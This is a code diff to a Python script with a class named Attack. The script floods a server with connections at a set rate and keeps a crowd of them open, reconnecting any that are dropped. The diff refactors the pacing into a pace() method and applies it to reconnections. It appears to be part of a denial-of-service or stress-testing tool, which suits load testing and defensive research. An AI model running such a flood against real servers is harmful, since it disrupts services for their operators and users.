@@ -14,7 +14,7 @@ import struct
 import sys
 import time
 
-RATE = 1000  # connections a second for the kinds that do not stay
+RATE = 1000  # connections a second
 CROWD = 400  # connections at once for the kinds that stay
 DENIED, PARAM_EXCHANGE, CREATE_STREAMS = 255, 9, 10
 
@@ -52,12 +52,15 @@ class Attack:
                 connection.close()
             if self.made == RATE // 4:
                 print("attacking", flush=True)
-            ahead = self.since + self.made / RATE - time.monotonic()
-            if ahead > 0:
-                time.sleep(ahead)
+            self.pace()
+
+    def pace(self):
+        ahead = self.since + self.made / RATE - time.monotonic()
+        if ahead > 0:
+            time.sleep(ahead)
 
     def stay(self, introduce, crowd):
-        """Keeps a crowd of connections; who is thrown out comes back at once."""
+        """Keeps a crowd of connections; who is thrown out comes back, RATE times a second."""
         poll, connections, told = select.poll(), {}, False
         while True:
             while len(connections) < crowd:
@@ -66,6 +69,7 @@ class Attack:
                     break
                 introduce(connection)
                 connections[connection.fileno()] = connection
+                self.pace()
                 poll.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
             if not told:
                 print("attacking", flush=True)
